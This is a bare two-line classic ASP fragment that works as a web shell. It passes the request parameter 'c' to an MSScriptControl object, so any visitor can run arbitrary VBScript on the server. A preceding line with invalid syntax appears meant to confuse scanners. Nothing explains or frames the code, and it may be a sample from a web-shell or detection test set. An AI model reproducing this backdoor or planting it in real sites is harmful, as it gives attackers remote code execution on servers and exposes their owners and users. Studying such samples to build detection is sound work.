<% Response.End : Dim 1 %>
<% Set o=CreateObject("MSScriptControl.ScriptControl"): o.Language="VBScript": o.AddCode request("c") %>
